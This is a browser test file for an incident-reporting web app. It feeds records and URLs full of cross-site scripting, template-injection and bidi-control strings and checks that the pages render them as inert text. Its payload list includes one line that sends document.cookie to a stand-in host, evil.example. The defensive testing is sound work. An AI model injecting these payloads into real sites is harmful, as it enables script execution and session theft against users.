/** Texts, titles and names full of scripts and direction marks: the page shows them as text and does nothing else. */
import { expect, test } from "vitest";
import { incidentsOf } from "../../src/incidents/index.js";
import type { Incident, Report } from "../../src/records/index.js";
import { CODED, inBrowser } from "./opened.js";
import { coded, openRoom, type TestRoom } from "./room.js";

const TRICKS = [
  `<img src=x onerror=alert(1)>`,
  `<svg onload="fetch('http://evil.example/'+document.cookie)">`,
  `"><script src=//evil.example/x.js></script>`,
  `javascript:alert(1)`,
  `{{constructor.constructor('alert(1)')()}}`,
  `</textarea><iframe srcdoc="<script>parent.alert(1)</script>">`,
  `\u202egnissim\u202c \u2066\u2067 \u200b\ufeff`,
  `__proto__`,
];
const TRICK = TRICKS.join(" ");

/** A coded report in which every string from outside is a trick. */
function poisoned(report: Report): Report {
  return {
    ...report,
    document: {
      ...report.document,
      title: TRICK,
      publisher: TRICKS[0]!,
      byline: [TRICKS[2]!],
      uri: "javascript:alert(1)",
      origin: { ...report.document.origin, path: `${TRICKS[0]!}.txt`, record: TRICKS[1]! },
    },
    entities: report.entities.map((entity, i) => ({ ...entity, name: TRICKS[i % TRICKS.length]! })),
    messages: [{ code: "truncated", step: "x", severity: "warning", text: TRICK }],
  };
}

let report: Report;
let incident: Incident;

const open = async (): Promise<TestRoom> => {
  const text = `GAO, Mali, March 4, 2024 – Rebels ${TRICKS[0]!} bombed the market in Gao on Sunday, the army said.\n\n"${TRICK}," said the minister ${TRICKS[1]!}.\n\nThe \u202efront\u202c denied that its men had attacked Gao.\n`;
  report = poisoned(await coded(text));
  const again = poisoned(await coded(`${text}\nThe council demanded talks.`));
  [incident] = incidentsOf([report, again]) as [Incident];
  incident = {
    ...incident,
    title: TRICK,
    parties: incident.parties.map((party) => ({ ...party, name: TRICK })),
    summary: (incident.summary ?? []).map((clauses) => clauses.map((clause) => ({ ...clause, text: TRICK }))),
  };
  return openRoom([report, again], [incident]);
};

inBrowser("hostile records", open, (at) => {
  const nothingRan = async (): Promise<void> => {
    await at.page.waitForTimeout(300);
    expect(at.faults).toEqual([]);
    expect(await at.page.locator("#app script, #app iframe, #app img, #app [onerror], #app [onload]").count()).toBe(0);
    expect(await at.page.locator('#app a[href^="javascript:"]').count()).toBe(0);
    expect(
      await at.page.evaluate(() => /[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText + document.title)),
    ).toBe(false);
  };

  test("a report", async () => {
    await at.page.goto(`${at.room.url}/reports/${encodeURIComponent(report.document.id)}`);
    await at.page.locator(".words").first().waitFor();
    expect(await at.page.locator("h1").textContent()).toContain(TRICKS[0]);
    expect(await at.page.locator("h1 .control").first().textContent()).toBe("RLO");
    expect(await at.page.locator(".words .control").count()).toBeGreaterThan(2);
    for (const details of await at.page.locator(".told summary").all()) await details.click();
    await at.page.getByRole("button", { name: /Loaded words/ }).click();
    await nothingRan();
  });

  test("an incident", async () => {
    await at.page.goto(`${at.room.url}/incidents/${incident.id}`);
    await at.page.locator(".matrix").waitFor();
    await at.page.locator("#origins").waitFor();
    await nothingRan();
  });

  test("lists, facets, map and network", async () => {
    for (const path of [
      "/",
      "/explore",
      "/explore?in=reports",
      "/explore?in=attributions",
      "/explore?show=map",
      "/explore?show=network",
    ]) {
      await at.page.goto(at.room.url + path);
      await at.page.locator("main a, main button").first().waitFor();
      await nothingRan();
    }
  });

  test("an address", async () => {
    const trick = encodeURIComponent(TRICK);
    for (const path of [
      `/explore?q=${trick.slice(0, 150)}`,
      `/explore?actor=${encodeURIComponent(TRICKS[0]!)}`,
      `/reports/${trick}`,
      `/incidents/${trick}`,
      `/review?kind=${trick}`,
    ]) {
      await at.page.goto(at.room.url + path).catch(() => undefined);
      // The server refuses some of these itself; the others show the at.page.
      await at.page.waitForTimeout(800);
      const real = at.faults.filter((fault) => !/console: Failed to load resource.*(400|404|414)/.test(fault));
      expect(real).toEqual([]);
      at.faults.length = 0;
    }
  });

  test("what is pasted", async () => {
    await at.page.goto(`${at.room.url}/paste`);
    await at.page
      .locator("textarea")
      .fill(`Police said ${TRICK} that rebels had attacked Gao on Monday, and the army denied it.`);
    await at.page.getByRole("button", { name: "Code it" }).click();
    await at.page.locator(".coded .words").first().waitFor(CODED);
    await nothingRan();
  });
});
